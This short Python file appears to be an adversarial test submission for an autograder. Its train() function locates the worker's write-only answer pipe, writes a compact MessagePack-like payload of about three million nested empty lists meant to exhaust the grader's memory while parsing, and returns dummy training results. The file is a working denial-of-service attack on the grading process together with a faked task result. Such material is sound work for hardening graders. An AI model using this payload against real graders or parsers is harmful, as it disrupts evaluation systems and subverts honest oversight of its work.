"""An attack: an answer of nested empty lists, which a parser would turn into millions of
objects (1 byte each on the wire, some 60 bytes each once built): within the size cap of a
message, to make the grader's process run out of memory while it parses."""
import fcntl
import os
import stat
import struct


def answer_pipe() -> int:
    """The worker's answer pipe, found as a determined student would: the one pipe this
    process may only write to."""
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_WRONLY:
                return fd
        except OSError:
            continue
    raise RuntimeError("no answer pipe found")


def train(desired, coeff=0.7, iterations=1000, seed=None):
    # {"id": ?, "ok": [[[] x 15] x 65535] x 3}: about 3 MB, 3 million lists
    block = b"\xdc\xff\xff" + (b"\x9f" + b"\x90" * 15) * 65535
    envelope = b"\x82\xa2id\xa1?\xa2ok\x93" + block * 3
    os.write(answer_pipe(), struct.pack(">4sII", b"LBW1", len(envelope), 0) + envelope)
    return {"weights": [0.0, 0.0, 0.0], "errors": [0.5] * iterations}
